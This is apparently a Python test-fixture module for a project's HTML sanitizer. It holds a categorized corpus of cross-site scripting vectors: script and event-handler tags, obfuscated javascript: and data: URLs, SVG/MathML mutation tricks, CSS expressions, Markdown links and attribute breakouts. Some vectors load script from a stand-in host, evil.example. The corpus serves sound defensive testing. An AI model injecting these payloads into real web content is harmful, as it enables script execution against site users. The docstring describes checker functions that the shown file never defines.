"""A hostile corpus for the XSS tests, and the HTML checker they share.

The vectors were written for this project from the attack families documented by OWASP's XSS filter
evasion cheat sheet, PortSwigger's XSS cheat sheet and html5lib's sanitizer tests (none is copied from
them). Every vector tries to call ``alert``, ``confirm``, ``prompt`` or ``print``, or to set
``document.title`` or ``window.__xss``, so the browser test can tell when one runs.

:data:`VECTORS` groups them by category; :data:`ALL` is the flat list (each vector once).
:func:`find_executable` parses HTML the way a browser does (html5lib, the parser bleach ships) and lists
everything in it that could run script; :func:`feed_findings` does the same for an Atom document.
"""
from __future__ import annotations

import base64
import functools
import json
import re
import xml.etree.ElementTree as ET

try:  # a spec-following parser, as browsers parse: html5lib itself, else the copy bleach ships
    import html5lib
except ImportError:
    from bleach._vendor import html5lib


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_SCRIPT_B64 = _b64("<script>alert(1)</script>")
_SVG_B64 = _b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
_JS_B64 = _b64("alert(1)")

# Tags that run script directly, load it, or open a browsing context that can.
SCRIPT_AND_EMBEDDING = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>confirm(1)</sCrIpT>",
    "<script >prompt(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    '<script type="text/javascript">alert(1)</script>',
    '<script type="module">alert(1)</script>',
    '<script language="javascript">window.__xss=1</script>',
    "<script>document.title='XSS'</script>",
    "<script>print()</script>",
    '<script src="data:text/javascript,alert(1)"></script>',
    "<script src=data:,alert(1)></script>",
    f"<script src=data:text/javascript;base64,{_JS_B64}></script>",
    '<script/src="data:,alert(1)"></script>',
    '<SCRIPT SRC="//evil.example/xss.js"></SCRIPT>',
    "<script>/*</script><script>*/alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    "<script>eval('al'+'ert(1)')</script>",
    "<script>setTimeout('alert(1)')</script>",
    "<script>[].constructor.constructor('alert(1)')()</script>",
    "<script>top['al\\x65rt'](1)</script>",
    "<script>alert`1`</script>",
    "<script>\\u0061lert(1)</script>",
    "<script>window.__xss=1</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    f'<iframe src="data:text/html;base64,{_SCRIPT_B64}"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    f'<object data="data:text/html;base64,{_SCRIPT_B64}"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="javascript:alert(1)">',
    f'<embed src="data:image/svg+xml;base64,{_SVG_B64}">',
    '<embed code="https://evil.example/x.swf" allowscriptaccess="always">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<applet code="javascript:alert(1)"></applet>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    f'<meta http-equiv="refresh" content="0; url=data:text/html;base64,{_SCRIPT_B64}">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<portal src="javascript:alert(1)"></portal>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<isindex action="javascript:alert(1)" type="image">',
    '<object><param name="src" value="javascript:alert(1)"></object>',
)

# Event-handler attributes, on allowed and on forbidden elements, with the tricks that hide them.
EVENT_HANDLERS = (
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="confirm(1)">',
    "<img src='x' onerror='prompt(1)'>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<img src=x onerror =alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=x onerror=window['al'+'ert'](1)>",
    "<img src=x onerror=top[/al/.source+/ert/.source](1)>",
    "<img src=x onerror=document.title='XSS'>",
    "<img src=x onerror=window.__xss=1>",
    "<img src=x onerror=print()>",
    "<img src onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=alert&lpar;1&rpar;>",
    '<img src=x onerror="javascript:alert(1)">',
    "<img src=1 onload=alert(1) onerror=alert(1)>",
    "<img srcset=x onerror=alert(1)>",
    '<img src="https://example.org/a.png" onload="alert(1)">',
    '<img src="x" onerror="alert(1)" title="a picture">',
    "<input type=image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<body onfocus=alert(1)>",
    "<body onhashchange=alert(1)>",
    "<body onscroll=alert(1)><br><br><br><br><br><br><br><br><br><br><br><br><input autofocus>",
    "<body onbeforeprint=confirm(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input onblur=alert(1) autofocus><input autofocus>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button autofocus onfocus=alert(1)>x</button>",
    '<a autofocus onfocus=alert(1) href="#">x</a>',
    "<div tabindex=1 autofocus onfocus=alert(1)>x</div>",
    "<xss onfocus=alert(1) autofocus tabindex=1>x</xss>",
    "<xss contenteditable onbeforeinput=alert(1)>x</xss>",
    "<details open ontoggle=alert(1)>",
    "<details ontoggle=confirm(1) open><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    "<object data=x onerror=alert(1)></object>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<iframe onload=alert(1)></iframe>",
    "<p onclick=alert(1)>click</p>",
    "<p onmouseover=alert(1)>hover</p>",
    "<div onpointerover=alert(1)>x</div>",
    "<a onmouseenter=alert(1)>x</a>",
    '<a href="https://example.org/" onclick="alert(1)">x</a>',
    '<span onanimationstart=alert(1) style="animation-name:x">x</span>',
    '<div style="transition:outline 1s" ontransitionend=alert(1) tabindex=1>x</div>',
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    "<strong onclick=alert(1)>x</strong>",
    "<code onmouseover=alert(1)>x</code>",
    "<blockquote oncopy=alert(1)>x</blockquote>",
    "<h2 onauxclick=alert(1)>x</h2>",
    "<li onwheel=alert(1)>x</li>",
    "<em onpaste=alert(1)>x</em>",
    "<form onsubmit=alert(1)><button>x</button></form>",
    "<form oninput=alert(1)><input></form>",
    "<x onclick=alert(1)>x</x>",
    '<img src="x" alt="`" onerror="alert(1)">',
    "<picture><source srcset=x onerror=alert(1)><img src=x></picture>",
)

# javascript:, data: and vbscript: URLs, hidden by case, entities, whitespace and control characters.
URL_OBFUSCATION = (
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="JaVaScRiPt:confirm(1)">x</a>',
    "<a href='javascript:prompt(1)'>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="\x0bjavascript:alert(1)">x</a>',
    '<a href="\x1fjavascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="javascript\n:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="jav&#9;ascript:alert(1)">x</a>',
    '<a href="java&#x0000000009;script:alert(1)">x</a>',
    '<a href="jav&Tab;ascript:alert(1)">x</a>',
    '<a href="jav&NewLine;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript&#x3a;alert(1)">x</a>',
    '<a href="javascript&#0000058alert(1)">x</a>',
    '<a href="&#x20;javascript:alert(1)">x</a>',
    '<a href="  &#14;  javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;">x</a>',
    '<a href="&#X6a;avascript:alert(1)">x</a>',
    '<a href="&#106avascript:alert(1)">x</a>',
    '<a href="j&#97;v&#97;script:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="jav&#x41;script:alert(1)">x</a>',
    '<a href="javascript:alert&#40;1&#41;">x</a>',
    '<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">x</a>',
    '<a href="javascript:%61lert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="javascript://comment%0Adocument.title=%27XSS%27">x</a>',
    "<a href=\"javascript:document.title='XSS'\">x</a>",
    '<a href="javascript:window.__xss=1">x</a>',
    '<a href="javascript:void(print())">x</a>',
    '<a href="javascript:alert(1)#https://example.org/">x</a>',
    '<a href="https://example.org/" href="javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="&#1114112;javascript:alert(1)">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    '<a href="VBScript:Alert(1)">x</a>',
    '<a href="vbscript&colon;alert(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="mocha:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    f'<a href="data:text/html;base64,{_SCRIPT_B64}">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="&#100;ata:text/html,<script>alert(1)</script>">x</a>',
    '<a href=" data:text/html,<script>confirm(1)</script>">x</a>',
    '<a href="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>">x</a>',
    '<a href="data:application/xhtml+xml,<html xmlns=\'http://www.w3.org/1999/xhtml\'><script>alert(1)</script></html>">x</a>',
    '<a href="data:,alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="JaVaScRiPt:alert(1)">',
    "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
    f'<img src="data:image/svg+xml;base64,{_SVG_B64}">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="vbscript:alert(1)">',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<img src="x" srcset="javascript:alert(1) 1x">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<body background="javascript:alert(1)">',
    '<video poster="javascript:alert(1)"></video>',
    '<input type="image" src="javascript:alert(1)">',
    '<a href="https://example.org/" ping="javascript:alert(1)">x</a>',
    '<a href="/" formaction="javascript:alert(1)">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<a href="javascr\u0130pt:alert(1)">x</a>',
    '<a href="%6Aavascript:alert(1)">x</a>',
    '<a href="//evil.example/%0Ajavascript:alert(1)">x</a>',
)

# SVG and MathML: foreign content, where parsing rules differ and most DOMPurify bypasses lived.
SVG_MATHML = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    '<svg><script href="data:,alert(1)"></script></svg>',
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=confirm(1) attributeName=x to=y dur=1s>",
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "<svg><animateMotion onbegin=alert(1) dur=1s path=M0,0>",
    "<svg><discard onbegin=alert(1)>",
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
    '<svg><a><set attributeName=href to=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><rect width="100" height="100"/></a></svg>',
    '<svg><image href="x" onerror="alert(1)"/></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><foreignobject><iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe></foreignobject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    '<svg><use href="data:image/svg+xml,&lt;svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'&gt;&lt;image href=\'1\' onerror=\'alert(1)\'/&gt;&lt;/svg&gt;#x"/></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    '<svg><feImage href="javascript:alert(1)"/></svg>',
    "<svg viewBox=\"0 0 1 1\"><circle r=\"1\" onmouseover=\"alert(1)\"/></svg>",
    "<svg><svg onload=alert(1)></svg></svg>",
    '<svg xmlns="http://www.w3.org/2000/svg"><g onload="alert(1)"></g></svg>',
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "<math><![CDATA[</math><img src=x onerror=alert(1)>]]></math>",
    "<table><caption><svg><style><img src=x onerror=alert(1)>",
    "<table><tr><td><svg><p><style><img src=x onerror=alert(1)></style>",
    "<math><mtext><select><option><style><img src=x onerror=alert(1)>",
)

# Parser differentials and mutation XSS: raw-text elements, comments, foster parenting, polyglots.
PARSING_AND_MUTATION = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    '<noscript><img src=x onerror="alert(1)"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template><style></template><img src=x onerror=alert(1)></style>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<title><img title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<style><p title="</style><img src=x onerror=alert(1)>">',
    "<style></style\x0c><img src=x onerror=alert(1)>",
    "<script></script\n><img src=x onerror=confirm(1)>",
    "<textarea></textarea/><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing><img src=x onerror=alert(1)></listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<img src="x"><!--<img src="--><img src=x onerror=alert(1)//">',
    '<a href="#">x</a><!--"><img src=x onerror=alert(1)>-->',
    "<?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<scr<!-- -->ipt>alert(1)</script>",
    "<table><img src=x onerror=alert(1)></table>",
    '<a href="https://example.org/"><table><a href="/y"><img src=x onerror=alert(1)></a></table></a>',
    '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
    '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
    '<img alt="x" title="&#34;&#62;&#60;img src=x onerror=alert(1)&#62;">',
    '<a rel="noopener" href="/x" title="</a><script>alert(1)</script>">y</a>',
    '<a href="/x" title="x><img src=x onerror=alert(1)>">y</a>',
    '<img src="media:1" title="x><img src=x onerror=alert(1)>" alt="y">',
    "<img src=x onerror=alert(1)//<!--",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<div><style><style/><img src=x onerror=alert(1)></div>",
    "<p>x<a href=\"/a\">y<b>z</a>w<img src=x onerror=alert(1)></b></p>",
    # Aimed at this app's own rewriting of sanitized HTML (media references on pages, absolute URLs in feeds).
    "<a href=\"/x\" title=' href=\"javascript:alert(1)'>y</a>",
    "<img src=\"/a.png\" alt=' src=\"javascript:alert(1)' title=\"x\">",
    '<img src="media:1" alt="&quot; onerror=&quot;alert(1)">',
    '<img src="media:1" alt="</picture><img src=x onerror=alert(1)>">',
    '<img alt="x" src="media:1" title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">',
)

# CSS: expression(), url(javascript:), @import, bindings, and escapes that hide them.
CSS = (
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<div style=\"background-image:url('javascript:alert(1)')\">x</div>",
    '<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="x:expr/**/ession(alert(1))">x</div>',
    '<div style="x:\\65xpression(alert(1))">x</div>',
    '<div style="x:&#101;xpression(alert(1))">x</div>',
    '<img style="xss:expr/*XSS*/ession(alert(1))" src="x">',
    '<div style="behavior:url(https://evil.example/xss.htc)">x</div>',
    '<div style="-moz-binding:url(https://evil.example/xss.xml#x)">x</div>',
    '<div style="background:url(vbscript:alert(1))">x</div>',
    '<div style=";background:url(javascript&colon;alert(1))">x</div>',
    '<div style="background:u\\72l(javascript:alert(1))">x</div>',
    '<p style="background:url(data:image/svg+xml,&lt;svg onload=alert(1)&gt;)">x</p>',
    '<table><tr><td style="background:url(javascript:alert(1))">x</td></tr></table>',
    '<table><tr><th style="text-align:expression(alert(1))">x</th></tr></table>',
    '<table><tr><td style="text-align:right;background:url(javascript:alert(1))">x</td></tr></table>',
    '<table><tr><td style="text-align:\\72 ight;x:expression(alert(1))">x</td></tr></table>',
    '<table><tr><td style="text-align:right" style="x:expression(confirm(1))">x</td></tr></table>',
    '<table><tr><td style="text-align:url(javascript:alert(1))">x</td></tr></table>',
    '<table><tr><td style="text-align:center;width:expression(alert(1))">x</td></tr></table>',
    '<table><tr><td style="text-align:left;}</style><img src=x onerror=alert(1)>">x</td></tr></table>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>@\\69mport 'javascript:alert(1)';</style>",
    "<style>@import url(data:text/css,*{x:expression(alert(1))});</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>*{x:expression(alert(1))}</style>",
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>",
    '<link rel="stylesheet" href="data:text/css,*{x:expression(alert(1))}">',
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>',
    '<span style="font-family:\'</style><script>alert(1)</script>\'">x</span>',
    "<STYLE type=\"text/javascript\">alert(1);</STYLE>",
)

# Markdown: links, images, references, autolinks, titles, HTML blocks and code that must stay text.
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](JAVASCRIPT:confirm(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    '[x](javascript:alert(1) "a title")',
    "[x](javascript:alert%281%29)",
    "[x](javascript://%0Aalert(1))",
    "[x](javascript:alert(1)#https://example.org)",
    "[x](\njavascript:prompt(1))",
    "[x](vbscript:alert(1))",
    f"[x](data:text/html;base64,{_SCRIPT_B64})",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](data:,alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: JaVaScRiPt:alert(1) "t"',
    "[r]\n\n[r]: <javascript:alert(1)>",
    "[x][]\n\n[x]: &#x6A;avascript:alert(1)",
    "[^1]\n\n[^1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](JaVaScRiPt:alert(1))",
    f"![x](data:text/html;base64,{_SCRIPT_B64})",
    f"![x](data:image/svg+xml;base64,{_SVG_B64})",
    "![x][i]\n\n[i]: javascript:alert(1)",
    '![x](https://example.org/a.png "\\" onerror=\\"alert(1)")',
    '[x](https://example.org/ "\\" onmouseover=\\"alert(1)")',
    "[x](https://example.org/ 'a\\' onmouseover=alert(1) x=\\'')",
    '[x](https://example.org/ ("onmouseover=alert(1)"))',
    '[x](#"onmouseover="alert(1))',
    '![x" onerror="alert(1)](https://example.org/a.png)',
    "![<img src=x onerror=alert(1)>](https://example.org/a.png)",
    '![x](media:1 "\\" onerror=\\"alert(1)")',
    '![" onerror="alert(1)](media:1)',
    "![x](media:1#<img src=x onerror=alert(1)>)",
    "[![x](https://example.org/a.png)](javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://example.org/)",
    "[x](https://example.org/)<img src=x onerror=alert(1)>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:confirm(1)>",
    "<vbscript:alert(1)>",
    f"<data:text/html;base64,{_SCRIPT_B64}>",
    "<javascript:alert(1)@example.org>",
    '<https://example.org/"onmouseover="alert(1)>',
    "www.example.org/<img src=x onerror=alert(1)>",
    'https://example.org/"onmouseover="alert(1)',
    "javascript:alert(1)",
    "`<img src=x onerror=alert(1)>`",
    "``<script>alert(1)</script>``",
    "```\n<script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```" onmouseover="alert(1)\n<x>\n```',
    "```javascript:alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "<div>\n<script>alert(1)</script>\n</div>",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "<details>\n\n[x](javascript:alert(1))\n\n</details>",
    '<a href="javascript:alert(1)">\n\n*x*\n\n</a>',
    "<img src=x\nonerror=alert(1)>",
    "*<img src=x onerror=alert(1)>*",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| <script>alert(1)</script> |\n|---|\n| x |",
    "~~<script>alert(1)</script>~~",
    "\\<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<!-- x --><img src=x onerror=alert(1)>",
    "<p>\n[x](javascript:alert(1))\n</p>",
    "# <img src=x onerror=alert(1)>",
    "x\n===\n<script>alert(1)</script>",
)

# Text fields (titles, alt text, tag names, display names, file names, search queries): attempts to leave
# the text or attribute they are placed in.
BREAKOUTS = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    '" autofocus onfocus="alert(1)',
    '" style="x:expression(alert(1))',
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "<!--</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '\\"};alert(1);//',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{7*7}}{{config}}<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<img src=x onerror=alert(1)>.png",
    '"><svg onload=alert(1)>',
    "'\"><img src=x onerror=prompt(1)>",
    '"><a href="javascript:alert(1)">x</a>',
    '</a><a href="javascript:alert(1)">x</a>',
    '#"><img src=x onerror=alert(1)>',
    'x" rel="import" href="data:text/html,<script>alert(1)</script>',
    '<meta http-equiv="refresh" content="0;javascript:alert(1)">',
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
)

# Encodings and characters that change how a parser or a filter reads a tag.
ENCODING = (
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x00src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)\x00>",
    "<img src=x\x0conerror=alert(1)>",
    "<img src=x\tonerror=alert(1)>",
    "<img src=x\nonerror=confirm(1)>",
    "<img src=x\ronerror=alert(1)>",
    "<img src=x\x0bonerror=alert(1)>",
    "<img src=x\u00a0onerror=alert(1)>",
    "<img src=x\u2028onerror=alert(1)>",
    "<img src=x onerror=\\u0061\\u006c\\u0065\\u0072\\u0074(1)>",
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;1&#x29;>",
    "<img src=x onerror=&#0000097lert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>alert(1)</script>",
    "\u202e<img src=x onerror=alert(1)>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<\u0131mg src=x onerror=alert(1)>",
    "<scr\u0130pt>alert(1)</scr\u0130pt>",
    "<im\u200dg src=x onerror=alert(1)>",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&lt;img src=x onerror=alert(1)&gt;",
    '<a href="javas\u200bcript:alert(1)">x</a>',
    '<a href="&#x110000;javascript:alert(1)">x</a>',
    '<a href="\u3000javascript:alert(1)">x</a>',
    "<img src=x on\u0435rror=alert(1)>",
    "<img src=x on\u00ADerror=alert(1)>",
    # Control characters the search highlighter uses as match marks and as stand-ins for < and >.
    "`\x02<img src=x onerror=alert(1)>\x03` alert",
    "`\x04img src=x onerror=alert(1)\x05` alert \x04script\x05alert(1)\x04/script\x05",
)

VECTORS: dict[str, tuple[str, ...]] = {
    "script_and_embedding": SCRIPT_AND_EMBEDDING,
    "event_handlers": EVENT_HANDLERS,
    "url_obfuscation": URL_OBFUSCATION,
    "svg_mathml": SVG_MATHML,
    "parsing_and_mutation": PARSING_AND_MUTATION,
    "css": CSS,
    "markdown": MARKDOWN,
    "breakouts": BREAKOUTS,
    "encoding": ENCODING,
}

ALL: list[str] = list(dict.fromkeys(v for group in VECTORS.values() for v in group))

# Posts may show uploads (``![alt](media:12)``); a test that saves these vectors swaps in an upload of its own.
MEDIA_PLACEHOLDER = "media:1"
# What a test would find in a vector if it ran (or in a request it made to a host that is not ours).
PAYLOADS = ("alert", "confirm", "prompt", "print", "document.title", "__xss", "evil.example")

_SENTINEL = "**xss-batch-sentinel**"


